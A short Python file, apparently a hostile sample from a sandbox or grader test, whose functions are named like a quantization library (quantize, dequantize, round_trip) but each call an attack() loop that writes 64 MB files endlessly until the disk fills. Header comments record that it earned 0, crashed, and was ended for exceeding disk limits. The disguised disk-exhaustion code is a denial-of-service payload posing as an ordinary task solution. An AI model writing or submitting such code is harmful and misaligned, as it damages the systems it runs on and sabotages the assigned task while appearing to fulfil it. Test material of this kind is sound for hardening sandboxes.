"""Writes one file after the other until the disk is full."""

# earns: 0
# state: crashed
# says: it took more than 512 MB or 50,000 files of disk, and was ended

import itertools


def attack():
    for number in itertools.count():
        with open(f"{number}.bin", "wb") as file:
            file.write(bytes(64 << 20))


def symmetric_scale(w, bits=8):
    return attack()


def quantize(w, scale, bits=8):
    return attack()


def dequantize(q, scale):
    return attack()


def round_trip(w, bits=8):
    return attack()
